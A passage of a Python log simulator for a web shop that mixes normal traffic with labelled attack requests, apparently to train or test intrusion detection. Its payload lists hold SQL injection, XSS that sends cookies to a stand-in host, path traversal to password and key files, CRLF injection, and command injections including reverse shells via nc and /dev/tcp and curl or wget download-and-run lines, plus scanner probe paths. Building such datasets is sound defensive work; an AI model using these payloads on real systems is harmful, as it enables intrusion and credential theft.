            "email": self.email(first, last),
            "payment": r.choice(["card", "paypal", "klarna", "sepa"]),
        }
        if r.random() < 0.2:
            doc["coupon"] = r.choice(COUPONS)
        return Request("POST", "/api/v1/orders", json=doc, status=201, size=r.randint(900, 3000))

    # -- the platform's own routes
    def platform(self, kind: str) -> Request:
        """A call of the platform's own services."""
        r = self.r
        if kind == "classify":
            doc = {"texts": r.sample(SMS, r.randint(1, 3)), "explain": r.random() < 0.2}
            return Request("POST", "/classify", json=doc, size=r.randint(200, 900))
        if kind == "recommend":
            doc = {"user_id": r.randint(1, 943), "k": r.choice([5, 10, 20])}
            return Request("POST", "/recommend", json=doc, size=r.randint(800, 2500))
        if kind == "similar_items":
            doc = {"item_id": r.randint(1, 1682), "k": r.choice([5, 10])}
            return Request("POST", "/similar_items", json=doc, size=r.randint(800, 2500))
        if kind == "score":
            events = [f"E{r.randint(1, 29)}" for _ in range(r.randint(5, 20))]
            doc = {"sessions": [{"block_id": f"blk_{r.getrandbits(62)}", "events": events}]}
            return Request("POST", "/score", json=doc, size=r.randint(300, 900))
        if kind == "score_lines":
            doc = {"lines": r.sample(HDFS, r.randint(1, 2))}
            return Request("POST", "/score_lines", json=doc, size=r.randint(300, 900))
        if kind == "metrics":
            return Request("GET", "/metrics", size=r.randint(9000, 14000))
        return Request("GET", f"/{kind}", size=r.choice([2, 15]))


# page kind -> (next page kinds, weights): how people move through the shop
PAGE_NEXT: dict[str, tuple[list[str], list[float]]] = {
    "home": (["listing", "search", "product", "login_page", "help", "account"], [5, 4, 4, 1, 1, 1]),
    "listing": (["listing", "product", "search", "home"], [4, 7, 2, 1]),
    "search": (["product", "search", "listing"], [7, 3, 1]),
    "product": (
        ["product", "add", "listing", "search", "reviews", "review", "home"],
        [4, 3, 3, 2, 1.5, 0.3, 0.5],
    ),
    "reviews": (["product", "reviews", "add"], [4, 1, 1]),
    "add": (["cart", "product", "listing"], [5, 3, 2]),
    "cart": (["checkout", "product", "listing", "lang"], [6, 2, 2, 0.3]),
    "checkout": (["pay", "login_page", "cart"], [7, 2, 1]),
    "pay": (["account", "home", "track"], [3, 2, 1]),
    "login_page": (["login"], [1]),
    "login": (["account", "home", "checkout"], [3, 2, 2]),
    "account": (["order", "invoice", "track", "home", "account", "logout"], [3, 2, 2, 1, 1, 1]),
    "order": (["invoice", "track", "account", "product"], [2, 2, 2, 1]),
    "invoice": (["account", "order", "home"], [2, 1, 1]),
    "track": (["account", "home", "help"], [2, 2, 1]),
    "review": (["product", "listing", "home"], [3, 2, 1]),
    "help": (["help", "home", "contact", "search"], [1, 2, 0.5, 1]),
    "contact": (["home", "help"], [2, 1]),
    "lang": (["home", "listing", "product"], [1, 1, 1]),
    "logout": (["home"], [1]),
}
API_WEIGHTS = {
    "products": 14,
    "product": 20,
    "reviews": 5,
    "search": 8,
    "cart": 6,
    "cart_add": 4,
    "cart_update": 1.5,
    "cart_delete": 0.8,
    "order": 0.6,
    "orders": 1,
    "order_get": 1,
    "me": 3,
    "me_update": 0.3,
    "recs": 5,
    "event": 18,
    "track": 0.6,
    "invoice": 0.4,
    "i18n": 0.5,
}
TYPOS = [
    "/prodcuts",
    "/product",
    "/Products",
    "/serach",
    "/chekout",
    "/acount",
    "/cart.html",
    "/help/faq",
    "/help/shipping-and-returns",
    "/products/{id}/",
    "/products/{big}",
    "/index.html",
    "/home",
    "/sale",
    "/blackfriday",
    "/products/{id}/review",
    "/api/v1/product/{id}",
    "/static/img/banner-spring.jpg",
    "/apple-touch-icon.png",
    "/apple-touch-icon-precomposed.png",
    "/shop/item.php",
    "/en/products",
    "/orders",
]


# ---------------------------------------------------------------------------- payloads

SQLI = [
    "{v}' OR '1'='1",
    "{v}' OR 1=1-- -",
    '{v}" OR ""="',
    "' OR 'x'='x",
    "admin'--",
    "admin' #",
    "{v} UNION SELECT NULL,NULL,NULL--",
    "{v}' UNION ALL SELECT username,password,NULL FROM users-- -",
    "-{n} UNION SELECT 1,@@version,3,4#",
    "{v}) AND SLEEP({s})-- ",
    "{v}' AND SLEEP({s}) AND 'a'='a",
    "{v}'; WAITFOR DELAY '0:0:{s}'--",
    "{v};SELECT pg_sleep({s})--",
    "'; DROP TABLE users;--",
    "{v}' AND extractvalue(1,concat(0x7e,(SELECT user())))-- ",
    "{v} AND 1=CONVERT(int,(SELECT @@version))",
    "{v}' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),{k},1))>{c}-- ",
    "{v}' ORDER BY {k}-- ",
    "1' AND (SELECT {n} FROM (SELECT(SLEEP({s})))abc)-- x",
    "{v}'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'",
    "{v}/**/UNION/**/SELECT/**/password/**/FROM/**/users",
    "{v}' oR 1 lIkE 1#",
    "') or ('a'='a",
    "{v}%' AND 1=1 AND '%'='",
    "1;EXEC xp_cmdshell('dir')--",
    "{v}' AND 1=(SELECT COUNT(*) FROM information_schema.tables)-- ",
    "{v} AND (SELECT 1 FROM pg_sleep({s}))",
    "{v}'+AND+'1'='2",
]
XSS = [
    "<script>alert({n})</script>",
    '"><script>alert(document.cookie)</script>',
    "'><img src=x onerror=alert({n})>",
    "<svg/onload=alert({n})>",
    "<svg onload=confirm`{n}`>",
    "javascript:alert(document.domain)",
    '<iframe src="javascript:alert({n})"></iframe>',
    "<body onload=alert('XSS')>",
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "<details open ontoggle=alert({n})>",
    "{{{{constructor.constructor('alert({n})')()}}}}",
    "<ScRiPt>fetch('//x{n}.example/'+document.cookie)</sCrIpT>",
    '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
    '" onmouseover="alert({n})',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert({n})>",
    "';alert(String.fromCharCode(88,83,83))//",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "{v}<script src=//evil{n}.example/x.js></script>",
    "<IMG SRC=javascript:alert('XSS')>",
    '<video><source onerror="alert({n})">',
    '{v}"><svg/onload=prompt({n})>',
]
TRAVERSAL = [
    "../../../../etc/passwd",
    "{up}etc/passwd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "file:///etc/passwd",
    "{up}proc/self/environ",
    "{up}var/log/nginx/access.log",
    "{up}etc/passwd\x00.pdf",
    "../../WEB-INF/web.xml",
    "/var/www/html/.env",
    "..;/..;/..;/etc/passwd",
    "C:\\boot.ini",
    "php://filter/convert.base64-encode/resource=index.php",
    "{up}root/.ssh/id_rsa",
    "{up}app/config/database.yml",
    "/proc/self/cmdline",
]
# already percent-encoded: sent as is, so that the decoded value still hides the payload
TRAVERSAL_RAW = [
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd%00",
    "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
]
CMD = [
    "{v}; cat /etc/passwd",
    "{v}|id",
    "{v} && whoami",
    "$(whoami)",
    "{v}`uname -a`",
    "{v}; curl -s http://{ip}/x.sh | sh",
    "{v} || wget -qO- http://{ip}:{port}/b -O /tmp/b; chmod +x /tmp/b; /tmp/b",
    "{v};nc -e /bin/sh {ip} {port}",
    "{v}\nid",
    "; ping -c {k} {ip}",
    "| sleep {s}",
    "{v}$(sleep {s})",
    "{v};${{IFS}}cat${{IFS}}/etc/passwd",
    "{v}&dir c:\\",
    "{v}| powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA",
    "{v}; bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    "{v};echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    "{v}'; exec('/bin/ls -la'); '",
    "{v}&& type C:\\Windows\\win.ini",
    "{v}%0aid",
]
CRLF = [
    "{v}\r\nSet-Cookie: admin=true",
    "{v}\r\n\r\n<html>injected</html>",
    "{v}\nX-Forwarded-For: 127.0.0.1",
    "{v}\r\nLocation: http://evil{n}.example/",
    "{v}\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    "{v}\rSet-Cookie: sessionid={hex}",
]
CRLF_RAW = [
    "{v}%0d%0aSet-Cookie:%20session={hex}",
    "{v}%0D%0ALocation:%20http://evil{n}.example",
    "{v}%E5%98%8A%E5%98%8DSet-Cookie:%20x=1",
    "{v}%250d%250aX-Injected:%20{n}",
    "{v}%0aContent-Length:%200%0a%0aHTTP/1.1%20200%20OK",
    "%0d%0aLocation:%20//evil.example",
    "any%0D%0ASet-cookie%3A+Tamper%3D{big}",
]
# where each payload kind is most often aimed (falls back to any parameter)
TARGETS = {
    "path_traversal": {"file", "next", "lang", "template", "image"},
    "cmd_injection": {"tracking", "carrier", "file", "zip", "name", "q"},
    "crlf": {"next", "lang", "ref", "subject"},
    "tampering": {
        "quantity",
        "page",
        "per_page",
        "product_id",
        "rating",
        "limit",
        "price",
        "min_price",
        "max_price",
        "user_id",
        "k",
        "item_id",
        "sort",
        "category",
        "country",
        "payment",
        "newsletter",
        "remember",
        "type",
    },
    "overlong": {"name", "username", "q", "zip", "coupon", "city", "email", "title", "subject"},
}
NUMERIC = TARGETS["tampering"] - {"sort", "category", "country", "payment", "newsletter"}
NUMERIC -= {"remember", "type"}


class Payloads:
    """Varied payloads of each kind, given the value they replace."""

    def __init__(self, r: random.Random) -> None:
        self.r = r

    def _fill(self, template: str, value: str) -> str:
        r = self.r
        return template.format(
            v=value if r.random() < 0.6 else "",  # the payload is appended or replaces
            n=r.randint(1, 9999),
            s=r.choice([3, 5, 10, 15]),
            k=r.randint(1, 12),
            c=r.randint(48, 122),
            ip=f"{r.randint(23, 212)}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}",
            port=r.choice([4444, 1337, 8080, 9001, 53]),
            hex=f"{r.getrandbits(64):016x}",
            big=r.randint(10**17, 10**19),
            up="../" * r.randint(3, 9),
        )

    def make(
        self, kind: str, name: str, value: object, encode: Callable[[str], str] | None = None
    ) -> tuple[object, bool]:
        """A payload for parameter `name` (current `value`); True when already percent-encoded.

        `encode` encodes the current value where it goes into an already encoded payload.
        """
        r = self.r
        text = value if isinstance(value, str) else json.dumps(value)
        encoded = (encode or _enc_form)(text)
        if kind == "sqli":
            out = self._fill(r.choice(SQLI), text)
            if r.random() < 0.2:  # keyword case games, a classic filter evasion
                out = "".join(ch.upper() if r.random() < 0.5 else ch.lower() for ch in out)
            return out, False
        if kind == "xss":
            return self._fill(r.choice(XSS), text), False
        if kind == "path_traversal":
            if r.random() < 0.3:
                return self._fill(r.choice(TRAVERSAL_RAW), encoded), True
            return self._fill(r.choice(TRAVERSAL), text), False
        if kind == "cmd_injection":
            return self._fill(r.choice(CMD), text), False
        if kind == "crlf":
            if r.random() < 0.5:
                return self._fill(r.choice(CRLF_RAW), encoded), True
            return self._fill(r.choice(CRLF), text), False
        if kind == "overlong":
            return self._overlong(text), False
        return self.tamper(name, value), False

    def _overlong(self, text: str) -> str:
        r = self.r
        n = int(r.choice([300, 512, 1024, 2048, 4100, 9000]) * r.uniform(1, 1.5))
        shape = r.random()
        if shape < 0.35:
            return r.choice("AaX%9") * n
        if shape < 0.6:
            alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
            return "".join(r.choice(alphabet) for _ in range(n))
        if shape < 0.75:
            return (text or "x") * (n // max(1, len(text)) + 1)
        if shape < 0.9:
            return text + "\x90" * (n // 4) + "A" * (n // 2)
        return "%n%s%x" * (n // 6)  # a format-string probe, long

    def tamper(self, name: str, value: object) -> object:
        """A wrong type or out-of-range value for a known parameter."""
        r = self.r
        json_value = not isinstance(value, str)
        if name in NUMERIC or (isinstance(value, int | float) and not isinstance(value, bool)):
            choices: list[object] = [
                f"-{r.randint(1, 500)}",
                str(r.choice([99999999, 2147483648, 10**12, 9 * 10**18])),
                "1e308",
                "9" * r.randint(20, 40),
                f"{r.randint(1, 9)}.{r.randint(1, 99)}" if name != "price" else "-0.01",
                r.choice(["abc", "ten", "true", "null", "NaN", "Infinity", "0x7fffffff", "1,5"]),
                f"{r.randint(1, 9)}a",
            ]
            if json_value:
                choices += [
                    -r.randint(1, 500),
                    r.choice([2**31, 10**15, 1e300]),
                    r.choice(["five", "1", "-1"]),
                    [1, 2],
                    {"$gt": 0},
                    True,
                    r.randint(1, 9) + 0.5,
                ]
            return r.choice(choices)
        if isinstance(value, bool):
            return r.choice(["yes", 2, "1; admin=true", None, {"x": 1}])
        return r.choice(
            [
                "admin",
                "*",
                "id desc",
                "ZZ",
                "0",
                "-1",
                "true",
                f"{name}[]",
                r.choice(["price_asc,password", "null", "undefined", "{}", "[]"]),
            ]
        )

    def inject(self, req: Request, kind: str, client: Client) -> Request:
        """Put a payload of `kind` into one parameter of `req` (a normal request)."""
        r = self.r
        places = [("query", i, n) for i, (n, _) in enumerate(req.query)]
        if req.form is not None:
            places += [("form", i, n) for i, (n, _) in enumerate(req.form)]
        if req.json is not None:
            places += [
                ("json", k, k) for k, v in req.json.items() if not isinstance(v, dict | list)
            ]
            for k, v in req.json.items():
                if isinstance(v, dict):
                    places += [("json", (k, kk), kk) for kk in v]
        if not places:
            return req
        wanted = [p for p in places if p[2] in TARGETS.get(kind, ())]
        if kind == "tampering" and not wanted:
            return req
        where, key, name = r.choice(wanted) if wanted and r.random() < 0.85 else r.choice(places)
        if where == "json":
            holder = req.json if isinstance(key, str) else req.json[key[0]]
            leaf = key if isinstance(key, str) else key[1]
            payload, _ = self.make(kind, name, holder[leaf])
            holder[leaf] = payload
            req.kind = kind
            return req
        pairs = req.query if where == "query" else req.form
        payload, encoded = self.make(kind, name, pairs[key][1])
        payload = str(payload) if not isinstance(payload, str) else payload
        enc = _payload_encoder(r, client)
        raw = _join_raw(pairs, key, payload if encoded else enc(payload))
        if where == "query":
            req.raw_query = raw
        else:
            req.raw_body = raw
        req.kind = kind
        return req


def _join_raw(pairs: list[tuple[str, str]], key: int, encoded_payload: str) -> str:
    return "&".join(
        f"{_enc_form(n)}={encoded_payload if i == key else _enc_form(v)}"
        for i, (n, v) in enumerate(pairs)
    )


def _payload_encoder(r: random.Random, client: Client) -> Callable[[str], str]:
    """How a payload is encoded: as the client encodes, loosely, twice, or every byte."""
    x = r.random()
    if x < 0.5:
        return ENCODERS[client.enc]
    if x < 0.7:
        return _enc_loose
    if x < 0.85:
        return lambda v: quote(quote(v, safe=""), safe="")
    return lambda v: "".join(f"%{b:02X}" if not chr(b).isalnum() else chr(b) for b in v.encode())


def _path_payload(r: random.Random, kind: str, shop: Shop) -> str:
    """A payload in the path itself (raw, as the client sent it)."""
    if kind == "sqli":
        tail = r.choice(
            ["'", "' OR '1'='1", "%27%20OR%201=1--", " AND 1=1", "%20UNION%20SELECT%201"]
        )
        return f"/products/{shop.product()}{_enc_loose(tail)}"
    if kind == "xss":
        tag = r.choice(["<script>alert(1)</script>", "%3Csvg%2Fonload%3Dalert(1)%3E", '"><img>'])
        return f"/search/{_enc_loose(tag)}"
    up = r.choice(["../", "..%2f", "%2e%2e/", "..%252f", "....//"]) * r.randint(3, 8)
    prefix = r.choice(["/static/", "/images/products/", "/static/css/", "/"])
    return f"{prefix}{up}{r.choice(['etc/passwd', 'etc/hosts', 'windows/win.ini', '.env'])}"


PAYLOAD_STATUS = {
    "sqli": ([200, 400, 500], [5, 4, 1]),
    "xss": ([200, 400], [6, 4]),
    "path_traversal": ([400, 403, 404], [3, 3, 4]),
    "cmd_injection": ([200, 400, 500], [5, 4, 1]),
    "crlf": ([302, 400, 200], [4, 4, 2]),
    "overlong": ([400, 413, 414, 200], [4, 2, 2, 2]),
    "tampering": ([400, 422, 200, 500], [4, 2, 3, 1]),
}
HTML_TARGETS = {
    "sqli": ["search", "listing", "login", "add", "review", "pay", "reviews", "track"],
    "xss": ["search", "review", "contact", "pay", "login", "listing"],
    "path_traversal": ["invoice", "lang", "login_page", "invoice"],
    "cmd_injection": ["track", "invoice", "pay", "search"],
    "crlf": ["lang", "login_page", "lang", "contact"],
    "overlong": ["search", "pay", "login", "contact", "review", "listing"],
    "tampering": ["add", "listing", "reviews", "review", "listing", "add"],
}
API_TARGETS = {
    "sqli": ["products", "search", "order", "me_update", "login", "reviews", "recs"],
    "xss": ["me_update", "search", "order"],
    "path_traversal": ["invoice", "i18n"],
    "cmd_injection": ["track", "invoice", "order"],
    "crlf": ["i18n", "search", "track"],
    "overlong": ["search", "me_update", "order", "login"],
    "tampering": ["products", "cart_add", "cart_update", "order", "recs", "reviews", "search"],
}


class Sim:
    """Everything the actors share: the random source, the log, the shop, the payloads."""

    def __init__(self, seed: int, span: float) -> None:
        self.r = random.Random(seed)
        self.log = Log(self.r, span)
        self.shop = Shop(self.r)
        self.payloads = Payloads(self.r)
        self.span = span

    def start(self, office: bool = False) -> float:
        """A start time, more likely in the (European) afternoon and evening."""
        r = self.r
        while True:
            t = r.uniform(0, self.span)
            hour = (t / 3600 + TZ_MINUTES / 60) % 24
            busy = 9 <= hour < 18 if office else 10 <= hour < 23
            if r.random() < (0.9 if busy else 0.25):
                return t

    def think(self) -> float:
        """A person's time between two pages: median ~12 s, a long tail."""
        return min(self.r.lognormvariate(2.5, 1.0), 1500.0)

    def attack(self, c: Client, t: float, kind: str, api: bool, ref: str) -> None:
        """One payload request of `kind`, in the query, a form or a JSON body, or the path."""
        r, shop = self.r, self.shop
        status = r.choices(*PAYLOAD_STATUS[kind])[0]
        if kind in ("sqli", "xss", "path_traversal") and r.random() < 0.1:
            req = Request(
                "GET", _path_payload(r, kind, shop), status=status, size=r.randint(0, 900)
            )
            req.kind = kind
            self.log.emit(t, c, req, ref)
            return
        for _ in range(8):
            page = r.choice((API_TARGETS if api else HTML_TARGETS)[kind])
            req = shop.api(page) if api else shop.html(page)
            req = self.payloads.inject(req, kind, c)
            if req.kind == kind:
                req.status, req.size = status, r.randint(0, 2400)
                self.log.emit(t, c, req, ref)
                return


# ---------------------------------------------------------------------------- normal actors

EXTERNAL = [
    "https://www.google.com/",
    "https://www.google.de/",
    "https://www.bing.com/",
    "https://duckduckgo.com/",
    "https://l.facebook.com/",
    "https://t.co/x1Yz9",
    "android-app://com.google.android.gm/",
    "-",
    "-",
    "-",
]


@dataclass
class Attack:
    """Payload requests a session should carry (for `payload` clients)."""

    kinds: list[str]
    left: int


def _assets(sim: Sim, c: Client, t: float, req: Request, url: str, fresh: bool) -> None:
    r = sim.r
    ref = SITE + url
    if fresh:
        for path, size in ASSETS:
            t += r.uniform(0.01, 0.4)
            path = path.format(h=sim.shop.asset_hash[path])
            sim.log.emit(t, c, Request("GET", path, size=size), ref)
    elif r.random() < 0.08:
        path = ASSETS[0][0].format(h=sim.shop.asset_hash[ASSETS[0][0]])
        sim.log.emit(t + 0.1, c, Request("GET", path, status=304, size=0), ref)
    if req.path.startswith("/products/") and req.path.count("/") == 2:
        pid = req.path.rsplit("/", 1)[1]
        for n in r.sample(range(1, 7), r.randint(1, 4)):
            t += r.uniform(0.02, 0.5)
            image = Request("GET", f"/images/products/{pid}/{n}.jpg", size=r.randint(20000, 300000))
            if r.random() < 0.1:
                image.status, image.size = 304, 0
            sim.log.emit(t, c, image, ref)


def _typo(sim: Sim, c: Client, t: float, ref: str) -> None:
    r = sim.r
    path = r.choice(TYPOS).format(id=sim.shop.product(), big=r.randint(5001, 99999))
    sim.log.emit(t, c, Request("GET", path, status=404, size=r.randint(3000, 5200)), ref)


def browse(
    sim: Sim,
    c: Client,
    t: float,
    pages: int,
    assets: bool = True,
    typo_rate: float = 0.0,
    attack: Attack | None = None,
) -> float:
    """A person's visit to the HTML shop; returns the time after it."""
    r, shop = sim.r, sim.shop
    kind = r.choices(["home", "listing", "search", "product"], [4, 2, 2, 3])[0]
    ref = r.choice(EXTERNAL)
    fresh = True
    for step in range(pages):
        req = shop.html(kind)
        url = sim.log.emit(t, c, req, ref)
        if assets:
            _assets(sim, c, t, req, url, fresh)
            fresh = False
        ref = SITE + url
        if typo_rate and r.random() < typo_rate:
            t += r.uniform(2, 20)
            _typo(sim, c, t, ref)
        if attack and attack.left and r.random() < attack.left / max(1, pages - step):
            t += r.uniform(1, 30)
            sim.attack(c, t, r.choice(attack.kinds), api=False, ref=ref)
            attack.left -= 1
        t += sim.think()
        if kind == "login" and req.status == 401:
            kind = "login"  # try again
            continue
        kind = r.choices(*PAGE_NEXT[kind])[0]
    return t


def app_session(
    sim: Sim, c: Client, t: float, calls: int, web: bool, attack: Attack | None = None
) -> float:
    """A single-page app or mobile app session on the JSON API; returns the time after it."""
    r, shop = sim.r, sim.shop
    ref = f"{SITE}/app/" if web else "-"
    if web:
        page = Request("GET", "/app/", size=r.randint(3000, 6000))
        url = sim.log.emit(t, c, page, r.choice(EXTERNAL))
        _assets(sim, c, t, page, url, fresh=True)
        t += r.uniform(0.5, 2)
    if r.random() < 0.5:
        req = shop.api_login(ok=r.random() > 0.08)
        sim.log.emit(t, c, req, ref)
        if req.status == 401:
            t += r.uniform(4, 25)
            sim.log.emit(t, c, shop.api_login(ok=True), ref)
        t += r.uniform(0.3, 1.5)
    names, weights = list(API_WEIGHTS), list(API_WEIGHTS.values())
    last_refresh = t
    n = 0
    while n < calls:
        for _ in range(r.choice([1, 1, 2, 3, 4])):  # a view fires a few calls at once
            sim.log.emit(t, c, shop.api(r.choices(names, weights)[0]), ref)
            t += r.uniform(0.005, 0.25)
            n += 1
        if attack and attack.left and r.random() < attack.left / max(1, (calls - n) / 2):
            t += r.uniform(0.5, 20)
            sim.attack(c, t, r.choice(attack.kinds), api=True, ref=ref)
            attack.left -= 1
        if t - last_refresh > 900:
            sim.log.emit(t, c, shop.api("refresh"), ref)
            last_refresh = t
        t += min(r.lognormvariate(1.3, 1.1), 600.0)
    return t


def _sessions(sim: Sim, count: int, office: bool = False) -> list[float]:
    r = sim.r
    t = sim.start(office)
    starts = [t]
    for _ in range(count - 1):
        t += r.uniform(2400, 6 * 3600)
        starts.append(t)
    return starts


def human(sim: Sim, c: Client, typo_rate: float = 0.0, attack: Attack | None = None) -> None:
    """One to a few visits to the shop, with assets and think times."""
    r = sim.r
    for t in _sessions(sim, 1 + int(r.expovariate(1.5))):
        pages = min(80, 2 + int(r.expovariate(1 / 9)))
        browse(sim, c, t, pages, typo_rate=typo_rate, attack=attack)


def spa(sim: Sim, c: Client, web: bool, attack: Attack | None = None) -> None:
    """One to a few app sessions calling the JSON API heavily."""
    r = sim.r
    for t in _sessions(sim, 1 + int(r.expovariate(1.2))):
        app_session(sim, c, t, min(500, 15 + int(r.expovariate(1 / 60))), web, attack)


DASHBOARD_PANELS = [
    ("/api/v1/stats/summary", [("window", "5m")]),
    ("/api/v1/stats/summary", [("window", "1h"), ("tz", "Europe/Berlin")]),
    ("/api/v1/stats/orders", [("interval", "1m")]),
    ("/api/v1/orders", [("status", "pending"), ("limit", "50")]),
    ("/api/v1/stats/top-products", [("limit", "10"), ("window", "1h")]),
    ("/api/v1/stats/errors", [("window", "15m")]),
    ("/api/v1/stats/stock", [("below", "5")]),
]
# the admin dashboard's views, each a fixed set of panels that refresh together: the app
# defines the panels, a wallboard shows one view at a refresh period of its own
DASHBOARD_VIEWS = [
    [DASHBOARD_PANELS[i] for i in (0, 2, 4, 5)],  # sales: the last 5 minutes, orders, top products
    [DASHBOARD_PANELS[i] for i in (1, 3, 5, 6)],  # operations: the last hour, pending orders, stock
]


def dashboard(sim: Sim, c: Client) -> None:
    """A wallboard polling one view's panels every few seconds, for a while."""
    r = sim.r
    period = r.choice([5, 10, 10, 15, 30, 60])
    panels = r.choice(DASHBOARD_VIEWS)
    t = sim.start(office=True)
    end = t + min(r.uniform(1200, 4 * 3600), 1800 * period / 5)
    ref = f"{SITE}/admin/dashboard"
    while t < end:
        for path, query in panels:
            q = list(query)
            if path.endswith("/orders") and "interval" in dict(q):
                q += [("from", str(int(START + t) - 3600)), ("to", str(int(START + t)))]
            sim.log.emit(t + r.uniform(0, 0.3), c, Request("GET", path, q), ref)
        t += period * r.uniform(0.98, 1.02)


def crawler(sim: Sim, c: Client) -> None:
    """A polite search engine crawler: robots.txt first, a crawl delay, no listings walk."""
    r, shop = sim.r, sim.shop
    t = r.uniform(0, sim.span)
    delay = r.choice([1, 2, 5, 10])
    n = min(800, 30 + int(r.expovariate(1 / 150)))
    for i in range(n):
        if i % 200 == 0:
            sim.log.emit(t, c, Request("GET", "/robots.txt", size=412), "-")
            t += delay
            if i == 0 and r.random() < 0.7:
                sim.log.emit(t, c, Request("GET", "/sitemap.xml", size=88211), "-")
                t += delay
        kind = r.choices(["product", "listing", "help", "reviews", "home"], [10, 3, 1, 1, 0.5])[0]
        req = shop.html(kind)
        req.query = [(k, v) for k, v in req.query if k in ("category", "page")]
        if r.random() < 0.15:
            req.status, req.size = 304, 0
        elif kind == "product" and r.random() < 0.02:  # a stale link in the index
            req.path, req.status = f"/products/{r.randint(5001, 9999)}", 404
        sim.log.emit(t, c, req, "-")
        t += delay * r.uniform(0.8, 1.6)


def nat(sim: Sim) -> None:
    """Many people behind one address (an office or a carrier-grade NAT)."""
    r = sim.r
    ip = sim.log.ip(v6_share=0.0)
    office_uas = [browser_ua(r) for _ in range(r.randint(1, 3))]
    for _ in range(r.randint(8, 40)):
        ua = r.choice(office_uas) if r.random() < 0.3 else browser_ua(r)
        c = Client(ip, ua, "nat", enc=r.choice(["form", "uri"]))
        if r.random() < 0.7:
            t = sim.start(office=True)
            browse(sim, c, t, min(40, 2 + int(r.expovariate(1 / 8))))
        else:
            app_session(sim, c, sim.start(office=True), 15 + int(r.expovariate(1 / 40)), web=True)


def platform(sim: Sim) -> None:
    """The platform's own callers: probes, Prometheus, and services calling the models."""
    r, shop = sim.r, sim.shop
    ip = f"10.{r.randint(0, 3)}.{r.randint(0, 255)}.{r.randint(2, 254)}"
    role = r.choices(["probe", "prometheus", "service"], [2, 1, 4])[0]
    t = r.uniform(0, sim.span * 0.8)
    if role in ("probe", "prometheus"):
        ua = f"kube-probe/1.{r.randint(27, 29)}" if role == "probe" else "Prometheus/2.48.1"
        c = Client(ip, ua, "platform")
        period = r.choice([10, 15, 30]) if role == "probe" else r.choice([15, 30, 60])
        for _ in range(r.randint(60, 400)):
            for route in ["livez", "readyz"] if role == "probe" else ["metrics"]:
                req = shop.platform(route)
                if route == "readyz" and r.random() < 0.003:
                    req.status = 503
                sim.log.emit(t, c, req, "-")
            t += period * r.uniform(0.99, 1.01)
        return
    ua = r.choice(
        [
            "python-httpx/0.26.0",
            "Go-http-client/1.1",
            "Apache-HttpClient/4.5.14 (Java/17.0.9)",
            "python-requests/2.31.0",
            "axios/1.6.2",
        ]
    )
    c = Client(ip, ua, "platform", ascii_json=r.random() < 0.5)
    routes = r.sample(["classify", "recommend", "similar_items", "score", "score_lines"], 2)
    rate = r.uniform(0.02, 0.8)
    for _ in range(r.randint(30, 400)):
        sim.log.emit(t, c, shop.platform(r.choice(routes)), "-")
        t += r.expovariate(rate)


# ---------------------------------------------------------------------------- abusive actors

# fmt: off
PROBES = [
    "/.env", "/.env.bak", "/.env.production", "/.git/config", "/.git/HEAD", "/.git/logs/HEAD",
    "/.svn/entries", "/.hg/hgrc", "/.DS_Store", "/wp-login.php", "/wp-admin/",
    "/wp-content/plugins/", "/xmlrpc.php", "/wp-config.php.bak", "/wp-includes/wlwmanifest.xml",
    "/administrator/", "/admin/", "/admin.php", "/admin/login.php", "/admin/config.php",
    "/phpmyadmin/", "/pma/", "/myadmin/", "/mysql/admin/", "/backup.zip", "/backup.tar.gz",
    "/backup.sql", "/db.sql", "/dump.sql", "/database.sql.gz", "/site.tar.gz", "/www.zip",
    "/shop.zip", "/shop.sql", "/config.php", "/config.php.bak", "/config.yml", "/config.json",
    "/application.yml", "/web.config", "/.htaccess", "/.htpasswd", "/server-status", "/server-info",
    "/cgi-bin/test-cgi", "/cgi-bin/printenv.pl", "/cgi-bin/luci", "/shell.php", "/cmd.php",
    "/c99.php", "/phpinfo.php", "/info.php", "/test.php", "/actuator/env", "/actuator/heapdump",
    "/solr/admin/", "/jenkins/script", "/manager/html", "/console/", "/debug/pprof/",
    "/swagger-ui.html", "/v2/api-docs", "/graphql", "/.aws/credentials", "/.ssh/id_rsa", "/id_rsa",
    "/.bash_history", "/owa/auth/logon.aspx", "/autodiscover/autodiscover.xml", "/remote/login",
    "/vpn/index.html", "/boaform/admin/formLogin", "/HNAP1/", "/login.action",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/telescope/requests",
    "/_ignition/execute-solution", "/laravel/.env", "/app/.env", "/api/.env", "/.vscode/sftp.json",
    "/docker-compose.yml", "/Dockerfile", "/.npmrc", "/package.json", "/composer.json",
    "/storage/logs/laravel.log", "/old/", "/test/", "/dev/", "/staging/", "/uploads/",
    "/install.php", "/setup.php", "/user/login", "/users/sign_in", "/login.jsp", "/default.aspx",
    "/elmah.axd", "/trace.axd", "/backup/", "/bak/", "/crossdomain.xml", "/api/v1/admin/users",
    "/api/v1/debug", "/api/internal/config", "/.well-known/openid", "/wp-json/wp/v2/users",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=phpinfo",
    "/?XDEBUG_SESSION_START=phpstorm", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    "/shop-backup-2024-03-10.tar.gz", "/api/v1/users?role=admin", "/.git/index",
    "/config/database.yml",
]
# fmt: on
# scanners also request pages that exist: these are normal requests of an abusive client
